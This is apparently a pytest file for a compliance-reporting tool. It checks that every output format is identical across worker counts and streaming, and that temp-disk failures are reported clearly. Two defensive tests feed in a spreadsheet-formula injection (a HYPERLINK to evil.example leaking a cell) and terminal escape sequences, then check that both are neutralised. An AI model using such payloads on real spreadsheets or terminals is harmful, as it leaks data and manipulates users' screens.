"""``compliance check``'s output written as the findings come: the same, byte for byte, however the run is split.

The expectations are the plain renderers over the whole list of findings (``to_table``, ``to_csv``,
``to_markdown``, ``to_json``), which know nothing of chunks, workers or streaming.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pyarrow.parquet as pq
import pytest

from compliance.engines import _parallel, evaluate
from compliance.reports import CheckSettings, to_csv, to_json, to_markdown, to_table, write_check
from compliance.reports import _check_run
from compliance.reports._check_run import check_chunk
from compliance.reports.parquet import findings_parquet
from compliance.records import records_from_text
from compliance.rules import load_rules

from generated_records import RecordMaker, seeded_records

RULES = load_rules()
AS_OF = date(2026, 11, 20)
RECORDS = seeded_records(RecordMaker(RULES), 120, seed=7)


def written(fmt, jobs, explain=False, show_all=False, records=RECORDS):
    out = io.BytesIO() if fmt == "parquet" else io.StringIO()
    result = write_check(records, CheckSettings(RULES, AS_OF, fmt, explain, show_all=show_all), out, jobs=jobs)
    return out.getvalue(), result


@pytest.fixture
def small_chunks(monkeypatch):
    """Chunks of 7 records and workers from 20 records, so a small run is split as a large one would be."""
    monkeypatch.setattr(_parallel, "CHUNK", 7)
    monkeypatch.setattr(_parallel, "PARALLEL_FROM", 20)


@pytest.mark.parametrize("show_all", [False, True])
def test_every_format_is_the_same_in_one_process_and_in_two(small_chunks, show_all):
    findings = evaluate(RECORDS, RULES, AS_OF)
    for explain in (False, True):
        assert written("csv", 1, explain, show_all)[0] == written("csv", 2, explain, show_all)[0] == to_csv(
            findings, show_all=show_all, explain=explain)
        text, result = written("json", 2, explain, show_all)
        assert text == written("json", 1, explain, show_all)[0] == to_json(findings, AS_OF, RULES, show_all=show_all,
                                                                            explain=explain)
    assert written("md", 1, show_all=show_all)[0] == written("md", 2, show_all=show_all)[0] == to_markdown(
        findings, AS_OF, show_all=show_all, records=120)
    assert written("table", 2, show_all=show_all)[0] == to_table(findings, AS_OF, show_all=show_all, records=120)
    assert written("table", 2, True, show_all)[0] == to_table(findings, AS_OF, explain=True, show_all=show_all,
                                                               records=120)
    parquet = pq.read_table(io.BytesIO(written("parquet", 2, show_all=show_all)[0]))
    assert parquet.equals(pq.read_table(io.BytesIO(findings_parquet(findings, AS_OF, RULES, show_all=show_all))))
    doc = json.loads(text)
    listed = [f for f in findings if show_all or f.status != "not_applicable" or f.data_quality]
    assert [(f["record"], f["rule"], f["occurrence"], f["status"]) for f in doc["findings"]] == [
        (f.record, f.rule, f.occurrence, f.status) for f in listed]
    assert parquet.column("record").to_pylist() == [f.record for f in listed]
    assert doc["summary"] == result.counts and sum(result.counts.values()) == len(findings)
    assert doc["not_applicable_listed"] is show_all


def test_the_working_is_left_out_only_where_it_is_not_shown():
    with_working = evaluate(RECORDS, RULES, AS_OF, explain=True)
    # The table without --explain shows no working, so it is not computed, yet the table is the same.
    assert written("table", 1, explain=False)[0] == to_table(with_working, AS_OF, records=120)


def test_no_finding_yields_a_json_document_and_a_table_that_says_so():
    text, result = written("json", 1, records=[])
    assert json.loads(text) == {"as_of": "2026-11-20", "not_applicable_listed": False, "problems": [], "findings": [],
                                "summary": result.counts, "rules": {}, "calendars": {}}
    assert written("table", 1, records=[])[0] == "Compliance as of 2026-11-20: no findings to show.\n"


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
    records = records_from_text('id,kind,framework,report_received\n'
                                '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",inspection,ILACS,'
                                '2026-01-05\n', "csv")
    text = written("csv", 1, records=records)[0]
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and all(row["record"].startswith("'=HYPERLINK(") for row in rows)


def test_escape_codes_in_an_id_are_shown_not_obeyed_by_a_terminal():
    records = records_from_text('id,kind,framework,report_received\n'
                                '"\x1b[31mred\x1b]0;owned\x07",inspection,ILACS,2026-01-05\n', "csv")
    table = written("table", 1, records=records, explain=True)[0]
    assert "\x1b" not in table and "\x07" not in table
    assert "\\x1b[31mred\\x1b]0;owned\\x07" in table


def test_a_problem_message_never_carries_a_raw_control_character():
    from compliance.errors import Problem

    assert str(Problem("unknown kind '\x1b[2J'", file="t.csv", line=2)) == "t.csv:2: unknown kind '\\x1b[2J'"


@pytest.mark.parametrize("spool", [8 << 20, 100], ids=["held in memory", "held in a file"])
@pytest.mark.parametrize("fmt", ["table", "md", "json", "csv", "parquet", "xlsx"])
def test_records_checked_as_they_are_read_give_the_output_of_records_read_first(small_chunks, monkeypatch, fmt,
                                                                                  spool):
    """A row that could not be read, met after the workers have checked the records before it, is in the output as
    if every record had been read first (the problems are asked for only once the records have been read)."""
    import openpyxl

    from compliance.errors import Problem

    late = Problem("'soon' is not a date", file="tracker.csv", line=121, column=4, field="report_received",
                   hint="write the date as DD/MM/YYYY")
    met: list[Problem] = []
    monkeypatch.setattr(_check_run, "_SPOOL", spool)

    def read_as_they_come():
        yield from RECORDS
        met.append(late)  # the bad row is the file's last

    def output(records, jobs, problems):
        out = io.BytesIO() if fmt in ("parquet", "xlsx") else io.StringIO()
        write_check(records, CheckSettings(RULES, AS_OF, fmt, False), out, jobs=jobs, problems=problems)
        if fmt == "xlsx":
            book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
            return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book}
        return pq.read_table(io.BytesIO(out.getvalue())) if fmt == "parquet" else out.getvalue()

    streamed = output(read_as_they_come(), 2, lambda: list(met))
    read_first = output(RECORDS, 1, [late])
    assert streamed.equals(read_first) if fmt == "parquet" else streamed == read_first
    if fmt != "table":  # (which lists them on stderr)
        assert "'soon' is not a date" in str(read_first.column("reason").to_pylist() if fmt == "parquet" else read_first)


@pytest.mark.parametrize("fmt", ["json", "csv", "parquet", "table"])
def test_the_first_records_are_checked_before_the_last_is_read(small_chunks, monkeypatch, fmt):
    """Every format checks records as they are read (JSON, CSV and Parquet too, which hold their output until the
    rows that could not be read, written first, are known): a core is not left idle while a long file is read."""
    checked_when_read: list[int] = []
    checked = 0

    def counted(settings, records):
        nonlocal checked
        checked += len(records)
        return check_chunk(settings, records)

    def read_as_they_come():
        yield from RECORDS
        checked_when_read.append(checked)

    monkeypatch.setattr(_check_run, "check_chunk", counted)
    out = io.BytesIO() if fmt == "parquet" else io.StringIO()
    write_check(read_as_they_come(), CheckSettings(RULES, AS_OF, fmt, False), out, jobs=1)
    assert checked_when_read[0] >= len(RECORDS) - _parallel.CHUNK
    assert checked == len(RECORDS)


@pytest.mark.parametrize("fmt", ["json", "parquet"])
def test_a_temporary_folder_with_no_room_is_named_not_blamed_on_the_output(small_chunks, monkeypatch, tmp_path, fmt):
    import tempfile

    from compliance.errors import InputError

    not_a_folder = tmp_path / "tmp"
    not_a_folder.write_text("a file where the temporary folder should be")
    monkeypatch.setattr(tempfile, "tempdir", str(not_a_folder))
    monkeypatch.setattr(_check_run, "_SPOOL", 100)
    out = io.BytesIO() if fmt == "parquet" else io.StringIO()
    with pytest.raises(InputError) as raised:
        write_check(iter(RECORDS), CheckSettings(RULES, AS_OF, fmt, False), out, jobs=1)
    problem, = raised.value.problems
    assert problem.file == str(not_a_folder) and "cannot hold the output until every record is read" in str(problem)
    assert "set TMPDIR to a folder with room" in str(problem)


def test_a_temporary_file_that_fills_its_disk_is_said_once_even_as_it_fails_to_close(small_chunks, monkeypatch):
    """A full disk fails the held file's writes and then its close: the first failure is the one said."""
    import errno
    import tempfile

    from compliance.errors import InputError

    class Full(io.StringIO):
        def __init__(self, *args, **kwargs):
            super().__init__()

        def write(self, text):
            raise OSError(errno.ENOSPC, "No space left on device")

        def close(self):
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(tempfile, "SpooledTemporaryFile", Full)
    with pytest.raises(InputError) as raised:
        write_check(iter(RECORDS), CheckSettings(RULES, AS_OF, "csv", False), io.StringIO(), jobs=1)
    assert "cannot hold the output until every record is read: No space left on device" in str(raised.value)
